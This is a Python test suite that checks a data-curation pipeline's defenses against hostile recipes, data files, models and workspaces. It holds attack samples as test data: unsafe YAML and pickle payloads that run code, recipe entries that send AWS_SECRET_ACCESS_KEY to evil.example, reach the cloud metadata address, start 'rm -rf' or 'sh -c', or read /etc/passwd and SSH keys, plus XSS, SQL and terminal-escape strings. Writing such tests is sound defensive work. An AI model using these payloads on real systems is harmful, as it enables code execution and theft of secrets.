"""A recipe, data, models and a workspace from a stranger: each test walks through one way to do harm.

Where code could run, the same payload is first shown to work without the guard. Programs that models wrote are
attacked in tests/sandbox/test_attacks.py, pages in tests/tasks/viewer and tests/tasks/test_report.py.
Not covered: faults of Docker, the kernel, or of the libraries that parse Parquet, JSON and safetensors.
"""

from __future__ import annotations

import ast
import json
import pickle
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
import yaml
from transformers import AutoModelForCausalLM

from flows.errors import RecipeError
from flows.reach import CONFINED, reach
from flows.recipe import Recipe, load_recipe
from storage.editions import DamagedEdition, Edition, ExportedFile, copy_files, editions_folder
from storage.errors import StorageError
from storage.manifest import Book, Inputs, Part
from storage.workspace import Workspace
from tasks.embeddings import EmbeddingSettings, embed
from tasks.errors import BadSetting
from tasks.teachers.local import TransformersTeacher
from tasks.teachers.teacher import Request, TeacherError
from tests.flows.conftest import CommandLine
from tests.tasks.tiny_student import make_student

PROJECT = Path(__file__).resolve().parents[2]
PACKAGES = ("flows", "tasks", "storage", "sandbox")
TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""what a terminal would obey"""


@pytest.fixture(scope="module")
def stillhouse(tmp_path_factory: pytest.TempPathFactory) -> CommandLine:
    return CommandLine(tmp_path_factory.mktemp("prefect"))


def good_recipe(**more: Any) -> dict[str, Any]:
    sources = [{"name": "sums", "kind": "file", "path": "sums.jsonl", "category": "math", "license": "MIT"}]
    return {"name": "r", "sources": sources, "curate": {"near_duplicates": None}} | more


def write(folder: Path, recipe: dict[str, Any]) -> Path:
    path = folder / "recipe.yaml"
    path.write_text(yaml.safe_dump(recipe))
    return path


# --- the code itself


def calls(tree: ast.AST) -> Iterator[tuple[str, ast.Call]]:
    """Every call by its dotted name, such as `torch.load`."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield ast.unparse(node.func), node


@pytest.mark.parametrize("package", PACKAGES)
def test_nothing_unpickles_evaluates_or_starts_a_shell(package: str) -> None:
    pickles = {"pickle", "dill", "cloudpickle", "joblib", "marshal", "shelve"}
    for path in (PROJECT / package).rglob("*.py"):
        if "image" in path.parts:
            continue  # runs inside the sandbox's containers, where running code is the task
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = [one.name for one in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and [one.name for one in node.names] != ["UnpicklingError"]:
                names.append(node.module or "")
            assert not pickles & {name.split(".")[0] for name in names}, f"{path} imports {names}"
        for name, call in calls(tree):
            given = {one.arg: ast.unparse(one.value) for one in call.keywords}
            assert name not in ("eval", "exec", "os.system", "os.popen", "yaml.unsafe_load", "yaml.full_load"), path
            assert given.get("shell", "False") == "False", f"{path}: {ast.unparse(call)}"
            assert given.get("allow_pickle", "False") == "False", f"{path}: {ast.unparse(call)}"
            if name == "torch.load":
                assert given.get("weights_only") == "True", f"{path}: {ast.unparse(call)}"
            if name == "yaml.load":
                assert ast.unparse(call.args[1]) == "_Loader", f"{path}: {ast.unparse(call)}"
            if "trust_remote_code" in given:
                allowed = ("False", "self.trust_remote_code", "teacher.trust_remote_code")
                assert given["trust_remote_code"] in allowed, f"{path}: {ast.unparse(call)}"


# --- recipes


@pytest.mark.parametrize("tag", ["!!python/object/apply:os.system [touch {}]", "!!python/name:os.system ''",
                                 "!!python/object/new:os.system [touch {}]"])  # fmt: skip
def test_a_recipe_is_values_and_runs_nothing(tmp_path: Path, tag: str) -> None:
    mark = tmp_path / "mark"
    text = f"name: {tag.format(mark)}\n"
    if "apply" in tag:
        yaml.load(text, yaml.UnsafeLoader)
        assert mark.exists()
        mark.unlink()
    path = tmp_path / "recipe.yaml"
    path.write_text(text)
    with pytest.raises(RecipeError, match="no valid YAML"):
        load_recipe(path)
    assert not mark.exists()


PLACES = ("../up", "/tmp/up", "a/b", "..", ".", "a\x00b", "a\n", "C:\\up", "~", "")


@pytest.mark.parametrize("name", PLACES)
@pytest.mark.parametrize("where", ["name", "source", "teacher", "student", "scorer"])
def test_no_name_is_a_path(tmp_path: Path, name: str, where: str) -> None:
    recipe = good_recipe(
        teachers=[{"name": "t", "engine": "replay", "path": "sums.jsonl", "columns": {"response": "r"}}],
        score={"scorers": [{"name": "s", "engine": "transformers", "model": "m"}]},
        student={"name": "s"},
    )
    load_recipe(write(tmp_path, recipe))
    place = {"name": recipe, "source": recipe["sources"][0], "teacher": recipe["teachers"][0],
             "student": recipe["student"], "scorer": recipe["score"]["scorers"][0]}[where]  # fmt: skip
    place["name"] = name
    with pytest.raises(RecipeError):
        load_recipe(write(tmp_path, recipe))


REACHING: list[tuple[str, dict[str, Any], str]] = [
    ("program", {"teachers": [{"name": "t", "engine": "vllm", "command": ["/bin/rm", "-rf"]}]},
     "teachers.0.command starts the program /bin/rm"),
    ("model's code", {"teachers": [{"name": "t", "engine": "transformers", "model": "a/b", "trust_remote_code": True}]},
     "teachers.0.trust_remote_code runs code that comes with the model a/b"),
    ("model's code by a flag", {"teachers": [{"name": "t", "engine": "vllm", "flags": {"trust-remote-code": True}}]},
     "teachers.0.flags.trust-remote-code runs code that comes with the model"),
    ("environment", {"teachers": [{"name": "t", "engine": "vllm", "environment": {"LD_PRELOAD": "x.so"}}]},
     "teachers.0.environment sets LD_PRELOAD for the programs that are started"),
    ("secret", {"teachers": [{"name": "t", "engine": "openai", "model": "m", "base_url": "https://evil.example/v1",
                              "api_key_env": "AWS_SECRET_ACCESS_KEY"}]},
     "teachers.0.api_key_env sends the environment variable AWS_SECRET_ACCESS_KEY to evil.example"),
    ("host", {"verify": {"judge": {"base_url": "http://169.254.169.254/v1", "model": "m"}}},
     "verify.judge.base_url sends texts to 169.254.169.254"),
    ("file", {"sources": [{"name": "s", "kind": "file", "path": "../../etc/passwd", "category": "math"}]},
     "sources.0.path names ../../etc/passwd, outside the recipe's folder"),
    ("home", {"teachers": [{"name": "t", "engine": "replay", "path": "~/.ssh/id_rsa"}]},
     "teachers.0.path names ~/.ssh/id_rsa, outside the recipe's folder"),
    ("workspace", {"workspace": "/srv/data"}, "workspace names /srv/data, outside the recipe's folder"),
    ("harness", {"student": {"name": "s"}, "curate": {"heldout": 0.1}, "evaluate": {"lm_eval": ["sh", "-c", "id"]}},
     "evaluate.lm_eval starts the program sh"),
]  # fmt: skip


@pytest.mark.parametrize(("more", "told"), [case[1:] for case in REACHING], ids=[case[0] for case in REACHING])
def test_what_a_recipe_reaches_for_is_told_and_refused_in_confinement(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, more: dict[str, Any], told: str
) -> None:
    path = write(tmp_path, good_recipe(**more))
    loaded = load_recipe(path)
    assert any(line.startswith(told) for line in reach(loaded.recipe.model_dump(mode="json"), loaded.base))
    monkeypatch.setenv(CONFINED, "1")
    with pytest.raises(RecipeError, match=f"(?s){re.escape(told)}.*{CONFINED} is set"):
        load_recipe(path)


def test_a_link_out_of_the_recipes_folder_is_outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    inside = tmp_path / "recipe"
    inside.mkdir()
    (inside / "sums.jsonl").symlink_to(tmp_path / "secret.jsonl")
    monkeypatch.setenv(CONFINED, "1")
    with pytest.raises(RecipeError, match="outside the recipe's folder"):
        load_recipe(write(inside, good_recipe()))


def test_a_recipe_that_stays_in_its_folder_runs_in_confinement(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(CONFINED, "1")
    assert load_recipe(PROJECT / "deploy" / "recipes" / "demo.yaml").recipe.name == "demo"
    load_recipe(write(tmp_path, good_recipe()))


ESCAPE = "\x1b]0;owned\x07\x9b31m\u202eevil"


def test_plan_tells_what_a_recipe_reaches_for_and_no_terminal_obeys_it(stillhouse: CommandLine, tmp_path: Path) -> None:
    (tmp_path / "sums.jsonl").write_text(json.dumps({"question": "What is 2 + 3?", "ground_truth": "5"}) + "\n")
    teacher = {"name": "t", "engine": "openai", "model": "m", "base_url": f"http://evil{ESCAPE}.example/v1",
               "api_key_env": "HOME"}  # fmt: skip
    told = stillhouse("plan", write(tmp_path, good_recipe(teachers=[teacher])))
    assert "reaches: teachers.0.api_key_env sends the environment variable HOME to http://evil" in told
    assert not TERMINAL.search(told)


@pytest.mark.parametrize("broken", [{ESCAPE: 1}, {"expected_questions": ESCAPE}, {"name": f"a{ESCAPE}"},
                                    {"sources": [{"name": "s", "kind": "file", "path": f"no{ESCAPE}"}]}])  # fmt: skip
def test_no_terminal_obeys_what_is_said_of_a_broken_recipe(
    stillhouse: CommandLine, tmp_path: Path, broken: dict[str, Any]
) -> None:
    told = stillhouse("ingest", write(tmp_path, good_recipe(**broken)), "-w", tmp_path / "w", code=1)
    assert told.strip() and not TERMINAL.search(told)


# --- data


class Payload:
    """Unpickled, it makes the file `mark`."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return Path.touch, (self.mark,)


def test_an_extension_type_of_parquet_is_not_unpickled(make_house: Any, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    pickled = pickle.dumps(Payload(mark))
    pickle.loads(pickled)
    assert mark.exists()
    mark.unlink()
    house = make_house({"name": "s", "kind": "file", "path": "s.parquet", "category": "math", "license": "MIT"})
    kind = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": pickled}
    fields = [pa.field("question", pa.string(), metadata=kind), pa.field("ground_truth", pa.string())]
    rows = pa.Table.from_pylist([{"question": "What is 2 + 3?", "ground_truth": "5"}], schema=pa.schema(fields))
    pq.write_table(rows, house.base / "s.parquet")
    house.run("ingest")
    assert [row["ground_truth"] for row in house.rows("ingest", "questions")] == ["5"]
    assert not mark.exists()


HOSTILE = f"../../../../up<script>alert(1)</script>{ESCAPE}\n---\nconfigs: evil\n'; drop table x; --"


def test_hostile_values_of_every_column_end_in_tables_alone(stillhouse: CommandLine, tmp_path: Path) -> None:
    folder, workspace = tmp_path / "recipe", tmp_path / "in" / "workspace"
    folder.mkdir()
    rows = [
        {"question": f"What is {number} + 3? {HOSTILE}", "ground_truth": str(number + 3), "id": f"{HOSTILE}{number}",
         "license": HOSTILE, "difficulty": HOSTILE, "language": HOSTILE, "metadata": {HOSTILE: HOSTILE},
         "good": f"{HOSTILE} \\boxed{{{number + 3}}}"}
        for number in range(8)
    ]  # fmt: skip
    (folder / "sums.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    recipe = good_recipe(
        sources=[{"name": "sums", "kind": "file", "path": "sums.jsonl", "category": "math",
                  "columns": {"source_id": "id", "license": "license"}}],
        curate={"near_duplicates": None, "filters": None},
        teachers=[{"name": "good", "engine": "replay", "path": "sums.jsonl", "samples": 1,
                   "columns": {"response": "good"}}],
    )  # fmt: skip
    before = {path for path in tmp_path.rglob("*") if workspace not in path.parents}
    told = stillhouse("run", write(folder, recipe), "-w", workspace, "--allow-unknown-license")
    told += stillhouse("status", workspace) + stillhouse("sql", workspace, "select * from questions")
    parts = f"{workspace}/tables/curated/*/*.parquet"
    [(identity,)] = duckdb.sql(f"select min(question_id) from '{parts}'").fetchall()
    told += stillhouse("show", workspace, identity)
    assert "What is" in told and not TERMINAL.search(told.replace("\r", ""))
    after = {path for path in tmp_path.rglob("*") if workspace not in path.parents}
    assert after - before == {folder / "recipe.yaml", workspace.parent, workspace}
    assert not [path for path in workspace.rglob("*") if path.name.startswith("up")]
    page = (workspace / "report.html").read_text()
    assert "&lt;script&gt;" in page and "<script" not in page and not TERMINAL.search(page)
    card = (workspace / "exports" / "huggingface" / "README.md").read_text()
    front = yaml.safe_load(card.split("---\n")[1])
    assert isinstance(front, dict) and front["configs"] != "evil"
    assert not TERMINAL.search(card) and "<script" not in card


# --- models


@pytest.fixture(scope="module")
def pickled_model(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A model whose weights are a pickle that makes a file, and that file."""
    folder, mark = make_student(tmp_path_factory.mktemp("pickled")), tmp_path_factory.mktemp("mark") / "mark"
    for weights in folder.glob("*.safetensors"):
        weights.unlink()
    torch.save({"model.embed_tokens.weight": Payload(mark)}, folder / "pytorch_model.bin")
    torch.load(folder / "pytorch_model.bin", weights_only=False)
    assert mark.exists()
    mark.unlink()
    return folder, mark


@pytest.fixture(scope="module")
def coded_model(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A model that brings code of its own, which makes a file, and that file."""
    folder, mark = make_student(tmp_path_factory.mktemp("coded")), tmp_path_factory.mktemp("mark") / "mark"
    config = json.loads((folder / "config.json").read_text())
    own = {"AutoConfig": "own.OwnConfig", "AutoModelForCausalLM": "own.OwnModel", "AutoModel": "own.OwnModel"}
    (folder / "config.json").write_text(json.dumps(config | {"model_type": "own", "auto_map": own}))
    code = (
        f"import pathlib\nfrom transformers import LlamaConfig, LlamaForCausalLM\npathlib.Path({str(mark)!r}).touch()\n"
    )
    (folder / "own.py").write_text(
        code + "class OwnConfig(LlamaConfig):\n    model_type = 'own'\n"
        "class OwnModel(LlamaForCausalLM):\n    config_class = OwnConfig\n"
    )
    AutoModelForCausalLM.from_pretrained(folder, trust_remote_code=True)
    assert mark.exists()
    mark.unlink()
    return folder, mark


@pytest.mark.parametrize("kind", ["pickled", "coded"])
def test_neither_a_models_pickle_nor_its_code_runs_as_a_teacher(kind: str, request: pytest.FixtureRequest) -> None:
    folder, mark = request.getfixturevalue(f"{kind}_model")
    asked = Request("r", "q", 0, ({"role": "user", "content": "What is 1 + 1?"},), {"max_tokens": 2}, 1)
    with TransformersTeacher(str(folder)) as teacher, pytest.raises(TeacherError, match="can't load the teacher"):
        list(teacher.generate([asked]))
    assert not mark.exists()


@pytest.mark.parametrize("kind", ["pickled", "coded"])
def test_nor_as_an_embedding_model(kind: str, request: pytest.FixtureRequest) -> None:
    folder, mark = request.getfixturevalue(f"{kind}_model")
    with pytest.raises(BadSetting):
        embed(["a text"], EmbeddingSettings(model=str(folder)))
    assert not mark.exists()


def test_numpy_reads_no_pickle(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    np.save(tmp_path / "x.npy", np.array([Payload(mark)], dtype=object), allow_pickle=True)
    with pytest.raises(ValueError, match="allow_pickle=False"):
        np.load(tmp_path / "x.npy")  # as the code calls it: test_nothing_unpickles_… allows no other setting
    assert not mark.exists()


# --- a workspace


@pytest.mark.parametrize("path", ["/etc/passwd", "../../x.parquet", "tables/../../x.parquet"])
def test_a_manifest_names_no_file_outside_its_workspace(tmp_path: Path, path: str) -> None:
    made = Workspace.create(tmp_path / "ws", bits=0)
    made.begin("select", "0", Inputs("1", {}, {}), run_id="run").commit_result([Book("response", 0, 0)], content="c")
    place = made.root / "manifest" / "select" / "0" / "00000001.json"
    head = json.loads(place.read_text())
    head["parts"] = [{"path": path, "kind": "data", "rows": 1, "bytes": 1, "sha256": "0", "content": "0"}]
    place.chmod(0o644)
    place.write_text(json.dumps(head))
    with pytest.raises(StorageError, match="no path below the workspace"):
        made.head("select", "0")
    with pytest.raises(StorageError, match="no path below the workspace"):
        Part(path, "data", 1, 1, "0", "0")


@pytest.mark.parametrize(("path", "sha256"), [("../../up", "ab12"), ("/tmp/up", "ab12"), ("a/b", "../../../secret")])
def test_an_edition_writes_and_reads_nothing_outside(tmp_path: Path, path: str, sha256: str) -> None:
    made = Workspace.create(tmp_path / "ws", bits=0)
    (editions_folder(made) / "files").mkdir(parents=True)
    (editions_folder(made) / "files" / "ab12").write_text("x")
    (tmp_path / "secret").write_text("x")
    edition = Edition(1, "2026-11-24T00:00:00+00:00", "r", "h", "run", {}, {}, (), (ExportedFile(path, sha256, 1),))
    with pytest.raises(DamagedEdition, match="no path below exports"):
        copy_files(made, edition, tmp_path / "out" / "copy")
    assert sorted(path.name for path in tmp_path.rglob("up")) == []


# --- secrets

KEY = "sk-canary-8f31c07d"


class Tattler(BaseHTTPRequestHandler):
    """A server that refuses every key and repeats it: in the reason, a header, and a cookie."""

    def do_POST(self) -> None:
        given = self.headers["Authorization"]
        self.server.seen.append(given)  # type: ignore[attr-defined]
        body = json.dumps({"error": {"message": f"Incorrect API key provided: {given}"}}).encode()
        self.send_response(self.server.status, f"no {given}")  # type: ignore[attr-defined]
        self.send_header("Content-Type", "application/json")
        self.send_header("Set-Cookie", f"key={given}")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def tattler() -> Iterator[ThreadingHTTPServer]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Tattler) as server:
        server.seen, server.status = [], 401  # type: ignore[attr-defined]
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def holding(folder: Path, secret: str) -> list[str]:
    """Files with the secret, in their bytes or, of Parquet, in their values."""
    found = []
    for path in (path for path in folder.rglob("*") if path.is_file()):
        data = path.read_bytes()
        if path.suffix == ".parquet":
            data += str(pq.read_table(path, partitioning=None).to_pylist()).encode()
        if secret.encode() in data:
            found.append(str(path.relative_to(folder)))
    return found


@pytest.mark.parametrize("status", [401, 400, 500])
def test_a_key_is_printed_and_written_nowhere_even_if_the_server_repeats_it(
    tattler: ThreadingHTTPServer, tmp_path: Path, status: int
) -> None:
    tattler.status = status  # type: ignore[attr-defined]
    home = tmp_path / "prefect"
    command = CommandLine(home)
    command.environment |= {"TEACHER_KEY": KEY, "PREFECT_LOGGING_LEVEL": "DEBUG"}
    url = f"http://127.0.0.1:{tattler.server_port}/v1"
    rows = [{"question": f"What is {number} + 3?", "ground_truth": str(number + 3)} for number in range(3)]
    (tmp_path / "sums.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    ask = {"base_url": url, "model": "m", "api_key_env": "TEACHER_KEY", "attempts": 1}
    (tmp_path / "done.jsonl").write_text("".join(json.dumps(row | {"response": "no number"}) + "\n" for row in rows))
    recipe = good_recipe(
        teachers=[
            {"name": "far", "engine": "openai", "samples": 1, **ask},
            {"name": "near", "engine": "replay", "path": "done.jsonl", "samples": 1},
        ],
        verify={"route": {"math": ["math", "judge"]}, "policy": {"math": "rule_or_judge"}, "judge": ask},
    )
    path, workspace = write(tmp_path, recipe), tmp_path / "workspace"
    told = command("run", path, "-w", workspace, code=3)
    assert f"Bearer {KEY}" in tattler.seen  # type: ignore[attr-defined]
    assert "far" in told and KEY not in told
    assert holding(workspace, KEY) == [] and holding(home, KEY) == []
    assert any(workspace.rglob("*.parquet")) and any(home.rglob("*"))


@pytest.mark.parametrize("url", [f"http://me:{KEY}@h/v1", [f"http://{KEY}@h/v1"], [{"url": f"https://:{KEY}@h/v1"}]])
def test_no_key_stands_in_an_endpoints_url_and_the_error_does_not_repeat_it(tmp_path: Path, url: Any) -> None:
    teacher = {"name": "t", "engine": "openai", "model": "m", "base_url": url}
    with pytest.raises(RecipeError, match=r"teachers\.0\.base_url.*holds a user or password") as told:
        load_recipe(write(tmp_path, good_recipe(teachers=[teacher])))
    assert KEY not in str(told.value)
    load_recipe(write(tmp_path, good_recipe(teachers=[teacher | {"base_url": "http://h:8000/v1/@me"}])))


def test_settings_of_a_recipe_hold_no_key() -> None:
    """Keys come from the environment or a Prefect Secret; a key that stands in the recipe is an unknown setting."""
    for setting in ("api_key", "token", "password", "secret", "hf_token"):
        teacher = {"name": "t", "engine": "openai", "model": "m", "base_url": "http://h/v1", setting: KEY}
        with pytest.raises(ValueError, match="Extra inputs are not permitted"):
            Recipe.model_validate(good_recipe(teachers=[teacher]))


def test_this_machines_environment_stays_out_of_a_workspace(
    stillhouse: CommandLine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY"):
        monkeypatch.setitem(stillhouse.environment, name, f"{KEY}-{name}")
    (tmp_path / "sums.jsonl").write_text(json.dumps({"question": "What is 2 + 3?", "ground_truth": "5"}) + "\n")
    told = stillhouse("run", write(tmp_path, good_recipe()), "-w", tmp_path / "w", "--until", "curate")
    assert KEY not in told and holding(tmp_path / "w", KEY) == []
